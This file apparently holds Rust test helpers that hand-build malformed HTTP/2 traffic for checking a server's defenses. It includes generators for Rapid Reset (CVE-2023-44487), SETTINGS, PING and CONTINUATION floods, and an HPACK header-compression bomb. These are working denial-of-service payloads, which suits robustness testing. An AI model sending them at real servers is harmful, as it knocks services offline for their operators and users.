//! HTTP/2 frames written by hand, for what no well-behaved client would send (RFC 9113 section 4, RFC 7541).

/// What a client says first.
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// `:method GET`, `:scheme http`, `:path /` from the static table, and `:authority localhost`.
pub(crate) const GET_ROOT: &[u8] = b"\x82\x86\x84\x41\x09localhost";

pub(crate) const HEADERS: u8 = 0x1;
pub(crate) const RST_STREAM: u8 = 0x3;
pub(crate) const SETTINGS: u8 = 0x4;
pub(crate) const PING: u8 = 0x6;
pub(crate) const GOAWAY: u8 = 0x7;
pub(crate) const CONTINUATION: u8 = 0x9;

/// A reason to end a connection: its client does too much of something.
pub(crate) const ENHANCE_YOUR_CALM: u32 = 0xb;

pub(crate) const END_STREAM: u8 = 0x1;
pub(crate) const END_HEADERS: u8 = 0x4;

/// Appends a frame.
pub(crate) fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("a frame is small").to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The preface with empty settings.
pub(crate) fn hello() -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    out
}

/// `n` requests from stream `first` on, each reset at once (CVE-2023-44487).
pub(crate) fn rapid_reset(first: u32, n: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for stream in (first..).step_by(2).take(n as usize) {
        frame(&mut out, HEADERS, END_STREAM | END_HEADERS, stream, GET_ROOT);
        frame(&mut out, RST_STREAM, 0, stream, &8u32.to_be_bytes());
    }
    out
}

/// `n` settings (each the size of the header table), every one of which is to be acknowledged.
pub(crate) fn settings_flood(n: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for _ in 0..n {
        frame(&mut out, SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]);
    }
    out
}

/// `n` pings, every one of which is to be answered.
pub(crate) fn ping_flood(n: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for _ in 0..n {
        frame(&mut out, PING, 0, 0, &[7; 8]);
    }
    out
}

/// Headers that go on for `n` frames and never end.
pub(crate) fn continuation_flood(n: usize) -> Vec<u8> {
    let mut out = Vec::new();
    frame(&mut out, HEADERS, END_STREAM, 1, GET_ROOT);
    // Literal without indexing: `x: ` and 1000 letters (1000 is 127 + 873, and 873 is 105 + 6 * 128).
    let mut line = b"\x00\x01x\x7f\xe9\x06".to_vec();
    line.extend_from_slice(&[b'a'; 1000]);
    for _ in 0..n {
        frame(&mut out, CONTINUATION, 0, 1, &line);
    }
    out
}

/// A request of 16 KiB that means 48 MB of headers: one line of 4,000 bytes is put into the table, then named again and
/// again with a byte each.
pub(crate) fn header_bomb(stream: u32) -> Vec<u8> {
    let mut block = GET_ROOT.to_vec();
    // Literal with indexing: `x: ` and 4000 letters (4000 is 127 + 3873, and 3873 is 33 + 30 * 128).
    block.extend_from_slice(b"\x40\x01x\x7f\xa1\x1e");
    block.extend_from_slice(&[b'a'; 4000]);
    // The newest entry is number 62.
    block.resize(16_000, 0xbe);
    let mut out = Vec::new();
    frame(&mut out, HEADERS, END_STREAM | END_HEADERS, stream, &block);
    out
}
